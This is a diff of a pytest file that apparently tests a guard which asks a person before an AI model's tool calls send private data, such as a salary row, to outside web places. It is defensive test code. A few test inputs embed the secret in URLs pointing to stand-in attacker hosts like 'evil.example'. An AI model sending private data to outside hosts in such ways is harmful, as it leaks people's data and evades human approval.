@@ -27,7 +27,7 @@ from onetool_ipy.terminal import approval_reply, approval_text
 from onetool_ipy.toolbox import Toolbox
 from tests.llm.ask.conftest import MakeBox, Own, Traces
 
-_SECRET = "Mia Brandt 84210"
+SECRET = "Mia Brandt 84210"
 _TEXT = {"type": "object", "properties": {"q": {"type": "string"}}, "required": ["q"]}
 _ANY = {"type": "object", "properties": {"q": {}}, "required": ["q"]}
 _DAY = datetime.date(2026, 11, 18)
@@ -54,11 +54,11 @@ class Person(AskListener):
 
 @pytest.fixture
 def box(make_box: MakeBox, tmp_path: Path) -> Toolbox:
-    (tmp_path / "salaries.csv").write_text(f"name,salary\n{_SECRET}\n", encoding="utf-8")
-    return _with_web(make_box())
+    (tmp_path / "salaries.csv").write_text(f"name,salary\n{SECRET}\n", encoding="utf-8")
+    return with_web(make_box())
 
 
-def _with_web(box: Toolbox) -> Toolbox:
+def with_web(box: Toolbox) -> Toolbox:
     hooks = HttpHooks(len, lambda _: [], frozenset(), (f"https://{PLACE}:443",), False)
     for name in ("web.search", "web.find"):
         spec = ToolSpec(
@@ -76,36 +76,36 @@ def _with_web(box: Toolbox) -> Toolbox:
 READ = ("fs.read_file", {"path": "salaries.csv"})
 
 
-def _ask(box: Toolbox, person: AskListener, *turns: Any, **options: Any) -> Answer:
+def ask_box(box: Toolbox, person: AskListener, *turns: Any, **options: Any) -> Answer:
     prompt = options.pop("prompt", "Sum up salaries.csv")
     return box.ask(prompt, model=ScriptedModel([*turns, "ok"]), listener=person, **options)
 
 
-def _reasons(answer: Answer) -> list[str | None]:
+def reasons(answer: Answer) -> list[str | None]:
     return [call.result.error and call.result.error.reason for call in answer.calls]
 
 
 def test_the_question_says_what_goes_where_out_of_which_call(box: Toolbox) -> None:
     person = Person("none")
 
-    answer = _ask(box, person, READ, ("web.search", {"q": _SECRET}))
+    answer = ask_box(box, person, READ, ("web.search", {"q": SECRET}))
 
     (question,) = person.questions
     assert question.places == (PLACE,)
     assert question.calls[0].note == (
-        f"would send to {PLACE}: 1 value out of fs.read_file('salaries.csv'), in `q`: \"{_SECRET}\""
+        f"would send to {PLACE}: 1 value out of fs.read_file('salaries.csv'), in `q`: \"{SECRET}\""
     )
     text = " ".join(person.texts[0].split())
     assert "The model wants to make a call that may send your data elsewhere" in text
     assert f"whatever goes to {PLACE} for the rest of this ask" in text
-    assert _reasons(answer) == [None, "not_approved"]
+    assert reasons(answer) == [None, "not_approved"]
     assert answer.calls[1].result.meta["skipped"]
 
 
 def test_text_that_the_model_wrote_is_called_so_and_unreadable_text_too(box: Toolbox) -> None:
     person = Person("none", "none")
 
-    _ask(
+    ask_box(
         box,
         person,
         READ,
@@ -119,24 +119,24 @@ def test_text_that_the_model_wrote_is_called_so_and_unreadable_text_too(box: Too
 
 
 def test_a_yes_is_for_this_call_and_always_for_the_place_in_this_ask(box: Toolbox) -> None:
-    calls = [("web.search", {"q": f"{_SECRET} {n}"}) for n in range(4)]
+    calls = [("web.search", {"q": f"{SECRET} {n}"}) for n in range(4)]
     person = Person("all", "always", "none")
 
-    answer = _ask(box, person, READ, *calls[:3], session="s")
-    assert _reasons(answer) == [None] * 4
+    answer = ask_box(box, person, READ, *calls[:3], session="s")
+    assert reasons(answer) == [None] * 4
     assert len(person.questions) == 2
     assert answer.calls[1].result.meta["guard"] == f"asked: you let it go to {PLACE}"
     assert answer.calls[3].result.meta["guard"] == f"free: you allowed {PLACE} for this ask"
 
-    answer = _ask(box, person, calls[3], prompt="Go on", session="s")
-    assert _reasons(answer) == ["not_approved"]
+    answer = ask_box(box, person, calls[3], prompt="Go on", session="s")
+    assert reasons(answer) == ["not_approved"]
     assert len(person.questions) == 3
 
 
 def test_where_nobody_is_the_call_is_refused_with_the_line_that_allows_it(
     box: Toolbox, own: Own, make_box: MakeBox, tmp_path: Path
 ) -> None:
-    answer = _ask(box, Person(None), READ, ("web.search", {"q": _SECRET}))
+    answer = ask_box(box, Person(None), READ, ("web.search", {"q": SECRET}))
 
     error = answer.calls[1].result.error
     assert error is not None
@@ -146,14 +146,14 @@ def test_where_nobody_is_the_call_is_refused_with_the_line_that_allows_it(
     assert line in error.message
 
     own(line)
-    answer = _ask(_with_web(make_box()), Person(), READ, ("web.search", {"q": _SECRET}))
-    assert _reasons(answer) == [None, None]
+    answer = ask_box(with_web(make_box()), Person(), READ, ("web.search", {"q": SECRET}))
+    assert reasons(answer) == [None, None]
 
 
 def test_what_the_person_typed_goes_out_freely_and_the_row_says_why(box: Toolbox) -> None:
     person = Person()
 
-    answer = _ask(
+    answer = ask_box(
         box, person, READ, ("web.search", {"q": "tango shoes"}), prompt="Read it; buy tango shoes"
     )
 
@@ -167,18 +167,21 @@ def test_what_the_person_typed_goes_out_freely_and_the_row_says_why(box: Toolbox
 
 def test_an_ask_that_read_nothing_is_free(box: Toolbox) -> None:
     person = Person()
-    answer = _ask(box, person, ("web.search", {"q": _SECRET}), ("web.find", {"q": "x" * 9}))
-    assert _reasons(answer) == [None, None]
+    answer = ask_box(box, person, ("web.search", {"q": SECRET}), ("web.find", {"q": "x" * 9}))
+    assert reasons(answer) == [None, None]
     assert not person.questions
 
 
 def test_calls_of_the_turn_that_reads_know_nothing_yet(box: Toolbox) -> None:
-    assert _reasons(_ask(box, Person(), [READ, ("web.search", {"q": "anything"})])) == [None, None]
+    assert reasons(ask_box(box, Person(), [READ, ("web.search", {"q": "anything"})])) == [
+        None,
+        None,
+    ]
 
 
 def test_approve_of_this_very_ask_is_a_yes(box: Toolbox) -> None:
-    answer = _ask(box, Person(), READ, ("web.search", {"q": _SECRET}), approve=["web.search"])
-    assert _reasons(answer) == [None, None]
+    answer = ask_box(box, Person(), READ, ("web.search", {"q": SECRET}), approve=["web.search"])
+    assert reasons(answer) == [None, None]
 
 
 def test_a_standing_yes_to_a_tool_is_none_to_data(box: Toolbox, traces: Traces, own: Own) -> None:
@@ -186,27 +189,27 @@ def test_a_standing_yes_to_a_tool_is_none_to_data(box: Toolbox, traces: Traces, 
     traces.add(box, "mail.send", server="post")
     person = Person("none", "all")
 
-    answer = _ask(box, person, READ, ("mail.send", {"x": _SECRET}), approve=[])
+    answer = ask_box(box, person, READ, ("mail.send", {"x": SECRET}), approve=[])
     assert person.questions[0].places == ("server 'post'",)
-    assert _reasons(answer) == [None, "not_approved"]
+    assert reasons(answer) == [None, "not_approved"]
 
-    answer = _ask(box, person, READ, ("mail.send", {"x": _SECRET}))
+    answer = ask_box(box, person, READ, ("mail.send", {"x": SECRET}))
     assert traces.left() == {"mail.send": 1}
 
 
 def test_a_write_that_asks_anyway_has_the_sentence_as_a_note(box: Toolbox, traces: Traces) -> None:
     traces.add(box, "mail.send", server="post")
-    turn = [("mail.send", {"x": _SECRET}), ("web.search", {"q": _SECRET})]
+    turn = [("mail.send", {"x": SECRET}), ("web.search", {"q": SECRET})]
     person = Person("1", "all")
 
-    answer = _ask(box, person, READ, turn)
+    answer = ask_box(box, person, READ, turn)
 
     question = person.questions[0]
     assert "would send to server 'post'" in question.calls[0].note
     assert [call.sends for call in question.calls] == ["", PLACE]
     assert not question.places
     assert not question.offers_always
-    assert _reasons(answer) == [None, None, "not_approved"]
+    assert reasons(answer) == [None, None, "not_approved"]
 
 
 def test_data_goes_back_to_its_own_place(box: Toolbox) -> None:
@@ -230,22 +233,22 @@ def test_data_goes_back_to_its_own_place(box: Toolbox) -> None:
     trusted = ["a.*"]
     person = Person("none")
 
-    answer = _ask(box, person, *calls, approve=trusted)
+    answer = ask_box(box, person, *calls, approve=trusted)
 
-    assert _reasons(answer) == [None, None, "not_approved"]
+    assert reasons(answer) == [None, None, "not_approved"]
     assert "server 'b'" in person.questions[0].calls[0].note
 
 
 def test_a_session_remembers_on_disk_what_it_has_seen(box: Toolbox, make_box: MakeBox) -> None:
-    _ask(box, Person(), READ, session="s", prompt="Sum up salaries.csv, I live in Graz")
+    ask_box(box, Person(), READ, session="s", prompt="Sum up salaries.csv, I live in Graz")
 
-    again = _with_web(make_box())
+    again = with_web(make_box())
     person = Person("none")
-    turn = [("web.search", {"q": "Graz"}), ("web.search", {"q": _SECRET})]
-    answer = _ask(again, person, turn, session="s", prompt="And now?")
+    turn = [("web.search", {"q": "Graz"}), ("web.search", {"q": SECRET})]
+    answer = ask_box(again, person, turn, session="s", prompt="And now?")
 
     assert len(person.questions) == 1
-    assert _reasons(answer) == [None, "not_approved"]
+    assert reasons(answer) == [None, "not_approved"]
     assert "fs.read_file('salaries.csv')" in person.questions[0].calls[0].note
 
 
@@ -262,14 +265,14 @@ def test_a_session_of_an_earlier_version_may_have_shown_anything() -> None:
 
 def test_an_attached_variable_is_private(box: Toolbox) -> None:
     person = Person("none")
-    _ask(box, person, ("web.search", {"q": "Zoe 511"}), attach={"df": {"who": "Zoe 511"}})
+    ask_box(box, person, ("web.search", {"q": "Zoe 511"}), attach={"df": {"who": "Zoe 511"}})
     assert "1 value out of @df" in person.questions[0].calls[0].note
 
 
 def test_pages_of_a_large_result_belong_to_the_tool_that_gave_it(
     make_box: MakeBox, tmp_path: Path
 ) -> None:
-    box = _with_web(make_box("output: {max_inline_bytes: 200}"))
+    box = with_web(make_box("output: {max_inline_bytes: 200}"))
     lines = "\n".join(f"row {n} Mia{n}" for n in range(200))
     (tmp_path / "large.txt").write_text(lines, encoding="utf-8")
 
@@ -279,15 +282,15 @@ def test_pages_of_a_large_result_belong_to_the_tool_that_gave_it(
 
     person = Person("none")
     read = ("fs.read_file", {"path": "large.txt"})
-    _ask(box, person, read, page, ("web.search", {"q": "Mia150"}))
+    ask_box(box, person, read, page, ("web.search", {"q": "Mia150"}))
 
     assert "1 word out of fs.read_file('large.txt')" in person.questions[0].calls[0].note
 
 
 def test_the_numbers_of_a_page_are_no_public_data(make_box: MakeBox, tmp_path: Path) -> None:
     """A page says which line it begins at, and that is the number that the model asked for."""
-    (tmp_path / "salaries.csv").write_text(f"name,salary\n{_SECRET}\n", encoding="utf-8")
-    box = _with_web(make_box("output: {max_inline_bytes: 200}"))
+    (tmp_path / "salaries.csv").write_text(f"name,salary\n{SECRET}\n", encoding="utf-8")
+    box = with_web(make_box("output: {max_inline_bytes: 200}"))
     search = box.registry.require("web.search")
     assert search.http is not None
     lines = [f"hit {n}" for n in range(300)]
@@ -300,7 +303,9 @@ def test_the_numbers_of_a_page_are_no_public_data(make_box: MakeBox, tmp_path: P
 
     person = Person("none")
     large = ("web.large", {"q": "hits"})
-    _ask(box, person, READ, large, page, ("web.find", {"q": "84210"}), prompt="Read it, find hits")
+    ask_box(
+        box, person, READ, large, page, ("web.find", {"q": "84210"}), prompt="Read it, find hits"
+    )
 
     assert len(person.questions) == 1
 
@@ -313,10 +318,10 @@ def test_a_tool_inside_a_tool_carries_nothing_that_is_not_explained(box: Toolbox
 
     box.adopt(look)
     person = Person()
-    turn = [("nb.look", {"q": "tango shoes"}), ("nb.look", {"q": _SECRET})]
-    answer = _ask(box, person, READ, turn, prompt="Read it, and tango shoes")
+    turn = [("nb.look", {"q": "tango shoes"}), ("nb.look", {"q": SECRET})]
+    answer = ask_box(box, person, READ, turn, prompt="Read it, and tango shoes")
 
-    assert _reasons(answer) == [None, None, "not_approved"]
+    assert reasons(answer) == [None, None, "not_approved"]
     error = answer.calls[2].result.error
     assert error is not None
     assert "'web.search' was not run: 'nb.look' called it" in error.message
@@ -328,8 +333,8 @@ def test_a_tool_inside_a_tool_carries_nothing_that_is_not_explained(box: Toolbox
 
     box.adopt(look_there)
     person = Person("all")
-    answer = _ask(box, person, READ, ("nb.look", {"q": _SECRET}))
-    assert _reasons(answer) == [None, None]
+    answer = ask_box(box, person, READ, ("nb.look", {"q": SECRET}))
+    assert reasons(answer) == [None, None]
     assert person.questions[0].places == (PLACE,)
 
 
@@ -337,19 +342,19 @@ def test_the_failure_of_a_private_tool_is_private_data(box: Toolbox) -> None:
     @tool("nb.fail", read_only=True)
     def fail() -> None:
         """Fail."""
-        raise ValueError(_SECRET)
+        raise ValueError(SECRET)
 
     box.adopt(fail)
     person = Person("none")
-    _ask(box, person, ("nb.fail", {}), ("web.search", {"q": _SECRET}))
+    ask_box(box, person, ("nb.fail", {}), ("web.search", {"q": SECRET}))
     assert len(person.questions) == 1
 
 
 def test_the_words_of_a_refusal_are_no_public_data(box: Toolbox) -> None:
     """The message of a refused call repeats what the model wrote: it explains no second try."""
-    send = ("web.search", {"q": _SECRET})
-    answer = _ask(box, Person(None, None), READ, send, send)
-    assert _reasons(answer) == [None, "not_approved", "not_approved"]
+    send = ("web.search", {"q": SECRET})
+    answer = ask_box(box, Person(None, None), READ, send, send)
+    assert reasons(answer) == [None, "not_approved", "not_approved"]
 
 
 def test_what_comes_back_of_a_call_with_a_yes_is_private_to_its_place(box: Toolbox) -> None:
@@ -359,12 +364,12 @@ def test_what_comes_back_of_a_call_with_a_yes_is_private_to_its_place(box: Toolb
     assert search.http is not None
     elsewhere = search.http._replace(origins=("https://other.example.net",))
     box.registry.register(search.replace(name="other.find", http=elsewhere))
-    calls = [("web.search", {"q": _SECRET}), ("web.again", {"q": _SECRET})]
+    calls = [("web.search", {"q": SECRET}), ("web.again", {"q": SECRET})]
     person = Person("all", "none")
 
-    answer = _ask(box, person, READ, *calls, ("other.find", {"q": _SECRET}))
+    answer = ask_box(box, person, READ, *calls, ("other.find", {"q": SECRET}))
 
-    assert _reasons(answer) == [None, None, None, "not_approved"]
+    assert reasons(answer) == [None, None, None, "not_approved"]
     assert person.questions[1].calls[0].tool == "other.find"
 
 
@@ -486,6 +491,63 @@ def test_the_shape_of_an_argument_costs_what_it_can_say(tree: list[Any]) -> None
     assert not is_free or guard.spent >= math.log2(math.comb(2 * count, count) / (count + 1))
 
 
+def _texts() -> set[str]:
+    """Texts of every kind that is explained to the guards of the next test."""
+    passages = {
+        form(text[start:end])
+        for text in (_PROMPT, "x1\nx2\nx3\nsome Text", "p1 p2")
+        for form in (str, str.upper, str.lower, str.title)
+        for start in range(len(text))
+        for end in range(start + 1, len(text) + 1)
+    }
+    words = {
+        form(f"{word}{s}") for word in passages for form in (str.upper, str.lower) for s in "s"
+    }
+    marks = " .,:/'\"?!()&-\n\t"
+    framed = {f"{one}{word}{two}" for word in ("week", "Alpha") for one in marks for two in marks}
+    dates = {(_DAY + datetime.timedelta(days)).isoformat() for days in range(-99, 99)}
+    return passages | words | framed | dates | {str(n) for n in range(103)}
+
+
+_PROMPT = "Alpha beta, Delta-7"
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    "before", [[], ["x1"], ["x1", "x2"], ["beta", "Alpha"], ["p1", "p1"]], ids=str
+)
+@pytest.mark.parametrize(
+    "schema", [{"type": "string"}, {"type": "string", "default": "x9"}, {}], ids=str
+)
+def test_the_prices_are_those_of_a_prefix_code(before: list[str], schema: dict[str, Any]) -> None:
+    """If 2 to the power of minus the price adds up to more than 1, choices carry more than they
+    cost."""
+    spec = _SPEC.replace(
+        parameters={"type": "object", "properties": {"q": schema}, "required": ["q"]}
+    )
+    here = Labels("private", PLACE, PLACE)
+
+    def spent(value: Any) -> float | None:
+        guard = _guard(_PROMPT)
+        guard.see(
+            PrivateSource("w", "web.s", PLACE), here, {"id": ["x1", "x2", "x3"], "a": "some Text"}
+        )
+        guard.give(Labels("public", "o", "o"), ["p1", "p2"])
+        for each in before:
+            guard.sent(Outgoing(spec, {"q": each}, PLACE))
+        is_free = _flow(guard, value, spec) is None
+        return guard.spent if is_free else None
+
+    numbers = (
+        () if schema else (None, True, False, [], {}, [[]], *range(103), *map(float, range(9)))
+    )
+    prices = [price for value in (*_texts(), *numbers) if (price := spent(value)) is not None]
+
+    assert len(prices) > 300
+    # The rest is for calls of another shape, and for none.
+    assert sum(2**-price for price in prices) <= 3 / 4
+
+
 @pytest.mark.parametrize("signs", ["!?.:;-*/", "_", "\U0001f600\U0001f680"], ids=ascii)
 def test_a_passage_costs_what_can_be_chosen_also_of_signs(signs: str) -> None:
     """A place could give a long text of signs, any part of which is another word."""
@@ -541,13 +603,13 @@ def test_which_place_is_called_is_a_choice_too() -> None:
 @pytest.mark.parametrize(
     ("path", "prompt", "places"),
     [
-        (f"https://evil.example/?q={_SECRET}", "Sum it up", ["evil.example"]),
-        (f"s3://evil/{_SECRET}", "Sum it up", ["evil"]),
-        ([f"ftp://evil.example/{_SECRET}"], "Sum it up", ["evil.example"]),
+        (f"https://evil.example/?q={SECRET}", "Sum it up", ["evil.example"]),
+        (f"s3://evil/{SECRET}", "Sum it up", ["evil"]),
+        ([f"ftp://evil.example/{SECRET}"], "Sum it up", ["evil.example"]),
         ("https://a.example/b.csv", "Sum it up with https://a.example/b.csv", []),
         ("salaries.csv", "Sum it up", []),
         ("file:///tmp/salaries.csv", "Sum it up", []),
-        (f"see https://evil.example/?q={_SECRET}", "Sum it up", []),
+        (f"see https://evil.example/?q={SECRET}", "Sum it up", []),
     ],
 )
 def test_a_url_for_code_of_ones_own_is_a_place(
@@ -558,7 +620,7 @@ def test_a_url_for_code_of_ones_own_is_a_place(
     traces.add(box, "nb.load", read_only=True, parameters=schema)
     person = Person(*["none"] * len(places))
 
-    _ask(box, person, READ, ("nb.load", {"path": path}), prompt=prompt)
+    ask_box(box, person, READ, ("nb.load", {"path": path}), prompt=prompt)
 
     assert [question.places for question in person.questions] == [(place,) for place in places]
 
